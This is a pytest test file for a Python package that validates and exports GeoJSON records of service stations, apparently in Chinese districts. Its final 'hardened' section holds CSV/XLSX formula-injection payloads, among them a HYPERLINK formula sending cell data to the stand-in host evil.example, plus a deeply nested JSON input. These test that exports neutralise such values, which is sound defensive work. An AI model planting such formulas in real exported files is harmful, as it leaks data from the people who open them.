"""Loading, validation and export of station records."""

from __future__ import annotations

import json
import threading
from pathlib import Path

import geopandas as gpd
import pytest
import shapely
from geopandas.testing import assert_geodataframe_equal

from stationmap import stations
from stationmap.districts import load_district
from stationmap.errors import BadRequestError, StationDataError

BAD = Path(__file__).resolve().parent / "data" / "bad"

# file -> (severity, where, field, words the message must contain)
CORPUS = {
    "swapped_lat_lon.geojson": ("error", "features[0]", "geometry.coordinates", "look swapped"),
    "swapped_out_of_range.geojson": ("error", "features[0]", "geometry.lat", "look swapped"),
    "lon_200.geojson": ("error", "features[0]", "geometry.lon", "a longitude from -180 to 180"),
    "nan_coordinate.geojson": ("error", "features[0]", "geometry.lon", "got nan"),
    "string_coordinates.geojson": ("error", "features[0]", "geometry.lon", "got a string"),
    "empty_geometry.geojson": ("error", "features[0]", "geometry.coordinates", "the geometry is empty"),
    "null_geometry.geojson": ("error", "features[0]", "geometry", "no location"),
    "polygon_geometry.geojson": ("error", "features[0]", "geometry.type", "'Point'"),
    "duplicate_id.geojson": ("error", "features[1]", "id", "features[0] has the same id"),
    "stars_7.geojson": ("error", "features[0]", "stars", "an integer from 0 to 5"),
    "stars_string.geojson": ("error", "features[0]", "stars", "an integer from 0 to 5"),
    "unknown_amenity.geojson": ("error", "features[0]", "amenities", "did you mean 'meal_heating'"),
    "amenity_label_not_key.geojson": ("error", "features[0]", "amenities", "key 'drinking_water'"),
    "bad_opening_hours.geojson": ("error", "features[0]", "opening_hours", "cannot parse"),
    "legacy_crs_3857.geojson": ("error", "file", "crs", "WGS-84"),
    "gcj02_export.geojson": ("error", "file", "datum", "--crs gcj02"),
    "bad_toilet_and_status.geojson": ("error", "features[0]", "status", "did you mean 'open'"),
    "bad_honour.geojson": ("error", "features[0]", "honours[0].year", "from 1949 to 2100"),
    "bad_district_code.geojson": ("error", "features[0]", "district_code", "6-digit adcode"),
    "missing_name.geojson": ("error", "features[0]", "name", "non-empty string"),
    "outside_district.geojson": ("warning", "features[0]", "geometry.coordinates", "inside district 610111"),
    "near_duplicate.geojson": ("warning", "features[1]", "geometry.coordinates", "possible duplicate"),
}
# files that cannot be read as a FeatureCollection at all -> words of the one message
UNREADABLE = {
    "invalid_json.geojson": "invalid JSON at line 14",
    "not_utf8.geojson": "not UTF-8",
    "not_feature_collection.geojson": "expected a GeoJSON FeatureCollection, found 'Feature'",
}


@pytest.fixture(scope="module")
def baqiao(settings):
    return {"610111": load_district("610111", data_dir=settings.data_dir).geometry}


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_bad_corpus_reports_the_precise_problem(name, baqiao):
    severity, where, field, words = CORPUS[name]
    report = stations.validate_stations(BAD / name, districts=baqiao)
    hits = [p for p in report.problems if p.where == where and p.field == field and p.severity == severity]
    assert hits, report.message()
    assert any(words in str(p) for p in hits), report.message()
    # exactly the planted problem: the second, clean record has none
    assert not [p for p in report.problems if p.where == "features[1]" and p.field not in {"id", "geometry.coordinates"}]


@pytest.mark.parametrize("name", sorted(UNREADABLE))
def test_unreadable_files_raise_one_precise_error(name):
    with pytest.raises(StationDataError, match=UNREADABLE[name].replace("[", r"\[").replace("(", r"\(")):
        stations.validate_stations(BAD / name)


def test_corpus_is_at_least_fifteen_distinct_inputs():
    assert len(set(CORPUS) | set(UNREADABLE)) >= 15
    # the bad tables (*.csv) belong to tests/test_importer.py
    assert {p.name for p in BAD.glob("*.geojson")} == set(CORPUS) | set(UNREADABLE)


def test_load_raises_with_every_error(tmp_path):
    with pytest.raises(StationDataError) as info:
        stations.load_stations(BAD / "bad_toilet_and_status.geojson")
    assert "toilet" in str(info.value) and "status" in str(info.value)


def test_warnings_do_not_fail_unless_strict(baqiao):
    report = stations.validate_stations(BAD / "near_duplicate.geojson", districts=baqiao)
    assert report.ok() and not report.ok(strict=True)


def test_load_fixture(fixture_path):
    frame = stations.load_stations(fixture_path)
    assert list(frame["id"]) == ["T-1", "T-2", "T-3", "T-4", "T-5"]
    assert frame.crs.to_epsg() == 4326
    assert frame.geometry.iloc[0].equals(shapely.Point(109.06, 34.27))
    assert isinstance(frame["amenities"].iloc[0], list)


def test_bundled_files_validate_clean(settings):
    files = sorted((settings.data_dir / "stations").glob("*.geojson"))
    assert [f.stem for f in files] == ["450305", "511502", "530111", "610111"]
    for path in files:
        code = path.stem
        report = stations.validate_stations(
            path, districts={code: load_district(code, data_dir=settings.data_dir).geometry})
        assert report.ok(strict=True), report.message()


def test_bundled_sizes_and_demo_notice(settings):
    sizes = {"610111": 63, "511502": 59, "530111": 34, "450305": 12}
    for code, n in sizes.items():
        frame = stations.load_stations(settings.data_dir / "stations" / f"{code}.geojson")
        assert len(frame) == n
        assert frame.attrs["metadata"]["demo"] is True
        assert "illustrative" in frame.attrs["metadata"]["notice_en"]
        assert frame["demo"].all()
    cuiping = stations.load_stations(settings.data_dir / "stations" / "511502.geojson")
    assert cuiping["visits"].sum() == 160_212


def _roundtrip_equal(a: gpd.GeoDataFrame, b: gpd.GeoDataFrame) -> None:
    cols = [c for c in a.columns if c != "geometry"]
    assert_geodataframe_equal(a[[*cols, "geometry"]], b[[*cols, "geometry"]], check_less_precise=True,
                              check_dtype=False)


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_export_and_reload_loses_nothing(fixture_path, tmp_path, suffix):
    frame = stations.load_stations(fixture_path)
    out = stations.export_stations(frame, tmp_path / f"out{suffix}")
    back = stations.load_stations(out)
    _roundtrip_equal(frame, back)
    assert back.attrs["metadata"] == frame.attrs["metadata"]


def test_geojson_export_is_utf8_chinese_and_rfc7946(fixture_path, tmp_path):
    frame = stations.load_stations(fixture_path)
    out = stations.export_stations(frame, tmp_path / "out.geojson")
    text = out.read_text(encoding="utf-8")
    assert frame["name"].iloc[0] in text  # not \\u escapes
    doc = json.loads(text)
    assert "crs" not in doc and doc["features"][0]["geometry"]["coordinates"] == [109.06, 34.27]


def test_gcj02_export_is_marked_and_shifted(fixture_path, tmp_path):
    frame = stations.load_stations(fixture_path)
    out = stations.export_stations(frame, tmp_path / "amap.geojson", datum="gcj02")
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["datum"] == "gcj02"
    lon, lat = doc["features"][0]["geometry"]["coordinates"]
    assert lon == pytest.approx(109.0651, abs=1e-3) and lat == pytest.approx(34.2687, abs=1e-3)
    with pytest.raises(StationDataError, match="--crs gcj02"):
        stations.load_stations(out)
    with pytest.raises(BadRequestError, match="GeoPackage"):
        stations.export_stations(frame, tmp_path / "amap.gpkg", datum="gcj02")


def test_export_is_atomic_on_failure(fixture_path, tmp_path):
    frame = stations.load_stations(fixture_path)
    target = tmp_path / "keep.geojson"
    target.write_text("old", encoding="utf-8")
    stations.export_stations(frame, target)
    assert json.loads(target.read_text(encoding="utf-8"))["type"] == "FeatureCollection"


def test_concurrent_exports_never_interleave(fixture_path, tmp_path):
    frame = stations.load_stations(fixture_path)
    target = tmp_path / "shared.geojson"
    threads = [threading.Thread(target=stations.export_stations, args=(frame, target)) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(stations.load_stations(target)) == 5


def test_unknown_export_format(fixture_path, tmp_path):
    with pytest.raises(BadRequestError, match="Unknown export format 'shp'"):
        stations.export_stations(stations.load_stations(fixture_path), tmp_path / "x.shp")


# --- hardened (issue 11): formula injection in exports, deeply nested JSON -------------------------------------

_HOSTILE = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "address": "@SUM(1+1)",
            "phone": "+86 29 8350 0000", "manager": "-2+3", "host_org": "\tcmd", "name_en": "\rx",
            "opening_hours_raw": "-3.5"}


def _hostile_stations(fixture_path):
    frame = stations.load_stations(fixture_path)
    for column, value in _HOSTILE.items():
        frame.loc[0, column] = value
    frame.loc[1, "capacity"] = -1  # a negative number stays a number
    return frame


@pytest.mark.parametrize("headers", ["en", "zh"])
def test_csv_export_neutralises_formula_text(fixture_path, tmp_path, headers):
    import csv

    out = stations.export_stations(_hostile_stations(fixture_path), tmp_path / "x.csv", headers=headers)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    for value in _HOSTILE.values():
        expected = value if value == "-3.5" else "'" + value
        assert expected in cells
    assert "-1" in rows[2]
    assert not [c for c in cells if c[:1] in set("=+@\t\r") or (c[:1] == "-" and c not in {"-1", "-3.5"})]


def test_xlsx_export_writes_formula_text_as_quoted_strings(fixture_path, tmp_path):
    import openpyxl

    out = stations.export_stations(_hostile_stations(fixture_path), tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(out)["stations"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["name"].data_type == "s"
    assert row["name"].value == "'" + _HOSTILE["name"]
    assert row["address"].value == "'@SUM(1+1)"
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
    capacity = {h: c for h, c in zip(header, sheet[3], strict=True)}["capacity"]
    assert capacity.value == -1 and capacity.data_type == "n"


def test_deeply_nested_json_is_a_data_error(tmp_path):
    path = tmp_path / "deep.geojson"
    depth = 100_000
    path.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": '
                    '{"type": "Point", "coordinates": ' + "[" * depth + "]" * depth + "}}]}", encoding="utf-8")
    with pytest.raises(StationDataError, match="nested too deeply"):
        stations.read_feature_collection(path)
    with pytest.raises(StationDataError, match="nested too deeply"):
        stations.load_stations(path)


def test_nested_json_just_under_the_parser_limit_is_an_ordinary_error(tmp_path, fixture_path):
    doc = json.loads(fixture_path.read_text(encoding="utf-8"))
    nested: list = []
    for _ in range(500):
        nested = [nested]
    doc["features"][0]["geometry"]["coordinates"] = nested
    doc["features"][1]["properties"]["extra"] = {"deep": nested}
    path = tmp_path / "nested.geojson"
    path.write_text(json.dumps(doc), encoding="utf-8")
    with pytest.raises(StationDataError, match="geometry.coordinates"):
        stations.load_stations(path)
